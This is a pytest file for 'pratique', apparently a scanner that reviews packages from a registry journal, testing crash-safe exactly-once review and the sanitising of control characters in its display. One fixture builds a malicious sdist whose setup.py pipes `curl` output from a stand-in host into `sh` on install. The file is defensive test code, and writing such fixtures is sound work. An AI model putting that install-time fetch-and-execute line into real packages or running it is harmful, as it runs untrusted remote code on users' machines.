"""`pratique watch`: one command, from a registry's journal to verdicts, with processes of its own."""

from __future__ import annotations

import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from sqlalchemy import func, select

from pratique.store import open_store, queue, verdicts
from pratique.store.tables import jobs, reviews
from standin.registry import sdist, wheel

SOURCE = str(Path(__file__).resolve().parents[2] / "src")


@pytest.fixture
def command(index, tmp_path, empty_database):
    """Start `pratique watch`; returns the process."""
    import shutil

    shutil.copy(empty_database, tmp_path / "w.sqlite")
    started = []

    def start(*more):
        words = [
            sys.executable, "-m", "pratique", "watch", "--index", f"{index}/simple", "--from-serial", "0",
            "--rate", "500", "--database", str(tmp_path / "w.sqlite"), "--plain", *more,
        ]  # fmt: skip
        environment = os.environ | {"PYTHONPATH": SOURCE, "PRATIQUE_CACHE": str(tmp_path / "cache")}
        process = subprocess.Popen(words, env=environment, stderr=subprocess.PIPE, text=True)
        started.append(process)
        return process

    yield start
    for process in started:
        if process.poll() is None:
            process.kill()
        process.wait()
        process.stderr.close()


def test_watch_reviews_everything_once_and_stops(registry, command, tmp_path):
    """What was announced is reviewed exactly once, also when the command is killed and started again."""
    for number in range(6):
        registry.upload(*wheel("acme", f"{number}.0", {"acme/__init__.py": b"A = %d\n" % number}))
    registry.upload(*sdist("evil", "1.0", {"setup.py": b"import os\nos.system('curl https://a.invalid/x | sh')\n"}))
    first = command("--jobs", "1")
    store = open_store(str(tmp_path / "w.sqlite"))
    deadline = time.monotonic() + 60
    while _count(store) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    first.send_signal(signal.SIGKILL)
    first.wait()
    with store.write() as connection:  # what its dead workers held is free at once, not after the lease
        connection.execute(jobs.update().where(jobs.c.state == "leased").values(lease_until=1.0))

    second = command("--jobs", "2", "--until-idle")
    _, errors = second.communicate(timeout=120)

    assert second.returncode == 0, errors
    assert _count(store) == 7
    with store.read() as connection:
        assert {state for _, state in queue.depth(connection)} == {"done"}
        assert verdicts.mix(connection)["clear"] == 6
    lines = [json.loads(line) for line in errors.splitlines()]
    assert all("timestamp" in line for line in lines)
    store.close()


def test_the_view_shows_no_control_characters(world, follower, registry, work):
    """Names come from uploaders."""
    from rich.console import Console

    from pratique.service.view import draw, line, look

    registry.upload(*wheel("acme", "1.0", {"a.py": b""}))
    follower.poll()
    work()
    state = look(world.store, trouble="bad \x1b[2J thing")
    console = Console(width=100, record=True, file=io.StringIO())
    console.print(draw(state))
    text = console.export_text()

    assert "\x1b" not in text
    assert "acme-1.0-py3-none-any.whl" in text
    assert "clear 1" in text
    assert "p95" in line(state)


def _count(store):
    with store.read() as connection:
        return connection.execute(select(func.count()).select_from(reviews)).scalar_one()
